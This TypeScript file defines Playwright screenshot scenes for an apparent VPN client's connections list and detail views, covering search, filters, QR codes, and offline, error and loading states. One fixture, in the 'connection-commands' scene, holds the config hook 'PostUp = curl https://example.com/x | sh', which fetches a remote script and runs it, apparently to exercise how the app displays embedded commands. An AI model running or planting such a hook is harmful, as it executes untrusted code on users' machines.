import type { Locator, Page } from 'playwright-core';
import type { FakeOptions } from '#test/renderer/fake/options.ts';
import type { Scene } from './scene.ts';

const now = Date.now();

/** Chooses the row that holds these words, and opens it where that takes another step. */
function choose(words: string) {
  return async (page: Page): Promise<void> => {
    await page.getByRole('row').filter({ hasText: words }).first().click();
    await page.getByRole('article').waitFor();
    await page.locator('[data-secret]').first().waitFor();
  };
}

/** The first row of a subconfig, after those of three configurations were read. */
async function firstSubconfig(page: Page): Promise<Locator> {
  await page.getByRole('row').first().waitFor();
  await page.evaluate(() => {
    window.fake.change((all) => [
      ...all,
      ...all
        .filter(({ key }) => ['config:1', 'config:2', 'config:5'].includes(key))
        .map((owner) => ({
          ...owner,
          key: `sub:${owner.key}`,
          source: 'subconfig' as const,
          protocol: 'socks5',
          favourite: false,
          titleRule: null,
        })),
    ]);
  });
  return page
    .getByRole('row')
    .filter({ hasText: /Subconfig|Субконфиг/ })
    .first();
}

async function find(page: Page, words: string): Promise<void> {
  await page.getByRole('searchbox').fill(words);
}

const offline: FakeOptions = {
  sync: {
    network: 'offline',
    offlineSince: now - 22 * 60_000,
    refreshedAt: now - 27 * 60_000,
    failure: { kind: 'offline', reason: 'unreachable' },
  },
  statsAge: 27 * 60_000,
  pollEvery: 0,
};

/** The list, the connection beside it and how fresh they are, in their states. */
export const connectionScenes: readonly Scene[] = [
  { name: 'connections' },
  { name: 'connections-list-narrow', fake: { settings: { connectionsWidth: 352 } } },
  { name: 'connections-list-wide', fake: { settings: { connectionsWidth: 2000 } } },
  { name: 'connection', act: choose('Phone') },
  { name: 'connection-awg', act: choose('Ноутбук, дом') },
  {
    name: 'connection-commands',
    act: choose('Ноутбук, дом'),
    fake: { commands: ['PostUp = curl https://example.com/x | sh'] },
  },
  {
    name: 'connection-proxy',
    act: async (page) => {
      await find(page, 'hundred');
      await choose('hundred')(page);
    },
  },
  {
    name: 'connection-gone',
    act: async (page) => {
      await find(page, 'Travel');
      await choose('Travel')(page);
    },
  },
  {
    name: 'connection-rtl',
    act: async (page) => {
      await find(page, 'trojan');
      await choose('تلفن')(page);
    },
  },
  {
    name: 'connection-no-stats',
    act: async (page) => {
      await find(page, 'quic');
      await choose('Test')(page);
    },
  },
  {
    name: 'connection-revealed',
    act: async (page) => {
      await choose('Phone')(page);
      await page.locator('[data-reveal]').first().click();
      await page.locator('[data-secret] pre').waitFor();
    },
  },
  {
    name: 'connection-qr',
    act: async (page) => {
      await choose('Phone')(page);
      await page.locator('[data-secret] button:has-text("QR")').first().click();
      await page.locator('[data-qr]').waitFor();
    },
  },
  {
    name: 'connection-table',
    act: async (page) => {
      await choose('Phone')(page);
      const button = page.locator(
        'article button:has-text("table"), article button:has-text("Таблицей")',
      );
      await button.click();
      await button.or(page.locator('article table')).last().scrollIntoViewIfNeeded();
    },
  },
  {
    name: 'connection-facts',
    act: async (page) => {
      await choose('Мамин')(page);
      await page.locator('article dl').last().scrollIntoViewIfNeeded();
    },
  },
  {
    name: 'connection-rename-failed',
    fake: {
      failures: {
        'connections.setTitle': {
          kind: 'rejected',
          message: 'The title holds a word that is not allowed.',
        },
      },
    },
    act: async (page) => {
      await choose('Phone')(page);
      await page.locator('header h2 + button').click();
      await page.locator('article form input').first().fill('A better name');
      await page.keyboard.press('Enter');
      await page.getByRole('alert').waitFor();
    },
  },
  {
    name: 'connection-failed',
    fake: { failures: { 'connections.get': { kind: 'not-found', reason: 'not-cached' } } },
    act: async (page) => {
      await page.getByRole('row').first().click();
      await page.getByRole('alert').waitFor();
    },
  },
  {
    name: 'connection-stats-waiting',
    fake: { silent: ['stats.watch'], pollEvery: 0 },
    act: choose('Phone'),
  },
  {
    name: 'copied',
    act: async (page) => {
      await choose('Phone')(page);
      await page.locator('article [data-initial-focus]').click();
      await page.locator('[data-toast]').waitFor();
    },
  },
  {
    name: 'copy-failed',
    fake: { failures: { 'connections.copy': { kind: 'vault', reason: 'damaged' } } },
    act: async (page) => {
      await page.getByRole('row').nth(1).getByRole('button').click();
      await page.locator('[data-toast]').waitFor();
    },
  },
  {
    name: 'undo',
    act: async (page) => {
      await choose('Phone')(page);
      await page.locator('article button[aria-pressed=true]').first().click();
      await page.locator('[data-toast] button').first().waitFor();
    },
  },
  { name: 'search', act: (page) => find(page, 'моск') },
  { name: 'no-match', act: (page) => find(page, 'нет такого подключения') },
  {
    name: 'filter',
    act: async (page) => {
      await page.locator('[data-filter]').click();
      await page.locator('[role=group] fieldset input').first().check();
      await page.locator('[role=group] fieldset input').nth(7).check();
    },
  },
  {
    name: 'filtered',
    act: async (page) => {
      await page.locator('[data-filter]').click();
      for (const n of [0, 5, 9, 22])
        await page.locator('[role=group] fieldset input').nth(n).check();
      await page.keyboard.press('Escape');
    },
  },
  {
    name: 'sort',
    act: (page) =>
      page.locator('button[aria-label^="Sort"], button[aria-label^="Порядок"]').click(),
  },
  { name: 'shortcuts', act: (page) => page.keyboard.press('Shift+Slash') },
  {
    name: 'changed',
    act: async (page) => {
      await page.getByRole('row').nth(1).hover();
      await page.evaluate(() => {
        window.fake.change((all) =>
          all.map((row, n) => (n === 13 ? { ...row, favourite: true, title: 'AAA' } : row)),
        );
      });
      await page.locator('[data-order-changed]').waitFor();
    },
  },
  {
    name: 'connections-subconfigs',
    act: async (page) => {
      await (await firstSubconfig(page)).waitFor();
    },
  },
  {
    name: 'connection-subconfig',
    act: async (page) => {
      await (await firstSubconfig(page)).click();
      await page.locator('[data-secret]').first().waitFor();
    },
  },
  { name: 'offline', fake: offline },
  { name: 'offline-connection', fake: offline, act: choose('Phone') },
  {
    name: 'offline-unread',
    fake: { count: 0, sync: { ...offline.sync, refreshedAt: null } },
  },
  {
    name: 'unauthorized',
    fake: {
      sync: { failure: { kind: 'unauthorized', status: 401 }, refreshedAt: now - 3 * 3_600_000 },
    },
  },
  {
    name: 'failed',
    fake: {
      count: 0,
      sync: { refreshedAt: null, failure: { kind: 'server', status: 503, retryAt: now + 600_000 } },
    },
  },
  { name: 'waiting', fake: { sync: { waitingUntil: now + 3_600_000 } } },
  { name: 'paused', fake: { sync: { paused: true } } },
  {
    name: 'loading',
    fake: { silent: ['connections.rows'], sync: { refreshedAt: null, refreshing: true } },
  },
  { name: 'empty', fake: { count: 0 } },
];
